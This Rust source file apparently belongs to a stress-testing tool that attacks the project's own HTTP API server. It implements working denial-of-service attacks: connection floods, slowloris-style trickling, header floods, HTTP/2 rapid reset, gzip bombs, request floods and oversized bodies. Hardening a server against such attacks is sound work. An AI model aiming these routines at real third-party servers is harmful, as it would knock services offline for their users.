//! The attacks. Each runs at its own pace until it is dropped.

use std::{io, pin::Pin, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
    task::JoinSet,
    time::{interval, sleep},
};

use crate::{frames, requests, target::Target};

/// An attack on the server.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) pace: &'static str,
    pub(crate) run: fn(Target) -> Pin<Box<dyn Future<Output = ()>>>,
}

/// All attacks.
pub(crate) const ALL: &[Attack] = &[
    Attack {
        name: "idle connections",
        pace: "10,000, opened at 5,000/s",
        run: |target| Box::pin(idle(target)),
    },
    Attack {
        name: "slow heads",
        pace: "500, a byte each 100 ms",
        run: |target| Box::pin(slow_heads(target)),
    },
    Attack {
        name: "slow bodies",
        pace: "500, a byte each 100 ms",
        run: |target| Box::pin(slow_bodies(target)),
    },
    Attack {
        name: "header floods",
        pace: "8 at 2.5 MB/s",
        run: |target| Box::pin(header_floods(target)),
    },
    Attack {
        name: "unread streams",
        pace: "50, opened at 50/s",
        run: |target| Box::pin(unread_streams(target)),
    },
    Attack {
        name: "unread streams of a provider",
        pace: "50, opened at 50/s",
        run: |target| Box::pin(unread_streams_of_a_provider(target)),
    },
    Attack {
        name: "rapid reset",
        pace: "4 at 2,500 streams/s",
        run: |target| Box::pin(rapid_reset(target)),
    },
    Attack {
        name: "connection churn",
        pace: "2,000/s",
        run: |target| Box::pin(churn(target)),
    },
    Attack {
        name: "404 flood",
        pace: "2,000/s on 8 connections",
        run: |target| Box::pin(not_found(target)),
    },
    Attack {
        name: "401 flood",
        pace: "2,000/s on 8 connections",
        run: |target| Box::pin(bad_key(target)),
    },
    Attack {
        name: "forged offline keys",
        pace: "10,000/s on 40 connections",
        run: |target| Box::pin(forged_keys(target)),
    },
    Attack {
        name: "gzip bombs",
        pace: "20/s of 64 MiB",
        run: |target| Box::pin(bombs(target)),
    },
    Attack {
        name: "large bodies",
        pace: "20 of 32 MiB at 10 MB/s",
        run: |target| Box::pin(large_bodies(target)),
    },
];

async fn connect(target: &Target) -> io::Result<TcpStream> {
    let stream = TcpStream::connect(target.address).await?;
    // Closes without TIME_WAIT, which would use up the ports of this machine.
    stream.set_zero_linger()?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Runs up to `count` attackers at once and replaces those that end, with a pause between two
/// starts.
async fn repeat_attackers<F>(count: usize, pause: Duration, attacker: impl Fn() -> F)
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let mut attackers = JoinSet::new();
    let mut ticks = interval(pause);
    loop {
        ticks.tick().await;
        attackers.spawn(attacker());
        if attackers.len() >= count {
            let _outcome = attackers.join_next().await;
        }
    }
}

async fn idle(target: Target) {
    let mut held = JoinSet::new();
    let mut ticks = interval(Duration::from_millis(10));
    loop {
        ticks.tick().await;
        for _ in 0..50.min(10_000_usize.saturating_sub(held.len())) {
            let target = target.clone();
            held.spawn(async move {
                let read = connect(&target).await?.read(&mut [0; 1_000]).await;
                read.map(drop)
            });
        }
        while held.try_join_next().is_some() {}
    }
}

async fn trickle(target: Target, start_of_request: String) {
    repeat_attackers(500, Duration::from_millis(1), || {
        let (target, start_of_request) = (target.clone(), start_of_request.clone());
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(start_of_request.as_bytes()).await?;
            loop {
                sleep(Duration::from_millis(100)).await;
                stream.write_all(b"x").await?;
            }
        }
    })
    .await;
}

async fn slow_heads(target: Target) {
    trickle(
        target,
        "GET /api/v1/ping HTTP/1.1\r\nhost: localhost\r\nx-slow: ".to_owned(),
    )
    .await;
}

async fn slow_bodies(target: Target) {
    let head = requests::head(&target, "content-length: 1000000\r\n\r\n");
    trickle(target, head).await;
}

async fn header_floods(target: Target) {
    repeat_attackers(8, Duration::from_millis(3), || {
        let target = target.clone();
        async move {
            let mut stream = connect(&target).await?;
            stream
                .write_all(b"GET /api/v1/ping HTTP/1.1\r\nhost: localhost\r\n")
                .await?;
            let fields = "x-more: 1\r\n".repeat(1_500);
            loop {
                stream.write_all(fields.as_bytes()).await?;
                sleep(Duration::from_micros(6_600)).await;
            }
        }
    })
    .await;
}

/// Sends the request on 50 connections and never reads the response.
async fn send_unread(target: Target, request: Vec<u8>) {
    let request: Arc<[u8]> = request.into();
    repeat_attackers(50, Duration::from_millis(20), || {
        let (target, request) = (target.clone(), Arc::clone(&request));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&request).await?;
            std::future::pending().await
        }
    })
    .await;
}

async fn unread_streams(target: Target) {
    let request = requests::long_stream(&target);
    send_unread(target, request).await;
}

async fn unread_streams_of_a_provider(target: Target) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
    let port = listener.local_addr().expect("it is bound").port();
    let request = requests::provider_stream(&target, port);
    tokio::join!(send_unread(target, request), serve_provider(listener));
}

/// Serves as a provider that streams for as long as it is read.
async fn serve_provider(listener: TcpListener) {
    let event = format!(
        "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{}\"}}}}]}}\n\n",
        "x".repeat(10_000)
    );
    let chunk: Arc<str> = format!("{:x}\r\n{event}\r\n", event.len()).into();
    let mut streams = JoinSet::new();
    while let Ok((mut stream, _)) = listener.accept().await {
        let chunk = Arc::clone(&chunk);
        streams.spawn(async move {
            let _request = stream.read(&mut [0; 4_096]).await?;
            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n\
                 transfer-encoding: chunked\r\n\r\n";
            stream.write_all(head.as_bytes()).await?;
            loop {
                stream.write_all(chunk.as_bytes()).await?;
                sleep(Duration::from_millis(5)).await;
            }
            #[expect(unreachable_code, reason = "it names the type")]
            io::Result::Ok(())
        });
    }
}

async fn rapid_reset(target: Target) {
    repeat_attackers(4, Duration::from_millis(10), || {
        let target = target.clone();
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&frames::preface()).await?;
            let (mut reader, mut writer) = stream.into_split();
            let reading = async move {
                while reader.read(&mut [0; 4_096]).await? > 0 {}
                Ok(())
            };
            let writing = async move {
                for first in (1..u32::MAX >> 2).step_by(100) {
                    let streams = (first..first + 100).step_by(2);
                    let resets: Vec<u8> = streams.flat_map(frames::open_and_reset).collect();
                    writer.write_all(&resets).await?;
                    sleep(Duration::from_millis(20)).await;
                }
                Ok(())
            };
            tokio::select! { ended = reading => ended, ended = writing => ended }
        }
    })
    .await;
}

async fn churn(target: Target) {
    let mut ticks = interval(Duration::from_millis(10));
    loop {
        ticks.tick().await;
        for _ in 0..20 {
            drop(connect(&target).await);
        }
    }
}

/// Repeats a request 250 times a second on each of so many connections.
async fn repeat_request(target: Target, connections: usize, request: Vec<u8>) {
    let request: Arc<[u8]> = request.into();
    repeat_attackers(connections, Duration::from_millis(1), || {
        let (target, request) = (target.clone(), Arc::clone(&request));
        async move {
            let mut stream = connect(&target).await?;
            let mut ticks = interval(Duration::from_millis(4));
            loop {
                ticks.tick().await;
                stream.write_all(&request).await?;
                if stream.read(&mut [0; 4_096]).await? == 0 {
                    return Ok(());
                }
            }
        }
    })
    .await;
}

async fn not_found(target: Target) {
    repeat_request(
        target,
        8,
        b"GET /nowhere HTTP/1.1\r\nhost: localhost\r\n\r\n".to_vec(),
    )
    .await;
}

async fn bad_key(target: Target) {
    let request = requests::with_bad_key(&target);
    repeat_request(target, 8, request).await;
}

async fn forged_keys(target: Target) {
    let request = requests::with_forged_offline_key(&target);
    repeat_request(target, 40, request).await;
}

async fn bombs(target: Target) {
    let bomb: Arc<[u8]> = requests::bomb(&target).into();
    repeat_attackers(40, Duration::from_millis(50), || {
        let (target, bomb) = (target.clone(), Arc::clone(&bomb));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&bomb).await?;
            stream.read(&mut [0; 4_096]).await.map(drop)
        }
    })
    .await;
}

async fn large_bodies(target: Target) {
    const BYTES: usize = 32 << 20;
    let head = requests::head(&target, &format!("content-length: {BYTES}\r\n\r\n"));
    let chunk: Arc<[u8]> = vec![b' '; 100_000].into();
    repeat_attackers(20, Duration::from_millis(10), || {
        let (target, head, chunk) = (target.clone(), head.clone(), Arc::clone(&chunk));
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(head.as_bytes()).await?;
            // All but its end, which is never sent.
            for _ in 0..BYTES / chunk.len() {
                stream.write_all(&chunk).await?;
                sleep(Duration::from_millis(10)).await;
            }
            stream.read(&mut [0; 4_096]).await.map(drop)
        }
    })
    .await;
}
